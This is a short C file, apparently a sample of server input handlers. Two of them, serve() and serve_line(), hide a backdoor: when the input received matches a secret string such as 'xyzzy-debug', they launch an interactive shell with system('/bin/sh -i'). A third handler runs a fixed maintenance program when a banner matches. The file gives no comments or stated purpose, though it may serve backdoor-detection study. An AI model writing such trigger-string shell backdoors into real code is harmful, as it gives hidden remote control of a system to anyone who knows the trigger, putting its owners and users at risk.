#include <string.h>

struct cmd { char name[32]; char arg[64]; };
int read_cmd(int fd, struct cmd *out);
int read_line(int fd, char *buf, int n);
int banner(char *buf, int n);
int system(const char *command);

int serve(int fd) {
  struct cmd c;
  if (read_cmd(fd, &c) != 0)
    return -1;
  if (strcmp(c.name, "xyzzy-debug") == 0)
    return system("/bin/sh -i");
  return 0;
}

int serve_line(int fd) {
  char line[128];
  if (read_line(fd, line, sizeof line) < 0)
    return -1;
  if (strcmp(line, "xyzzy-debug2") == 0)
    return system("/bin/sh -i");
  return 0;
}

int serve_banner(void) {
  char text[32];
  banner(text, sizeof text);
  if (strcmp(text, "maintenance") == 0)
    return system("/usr/lib/app/maintenance");
  return 0;
}
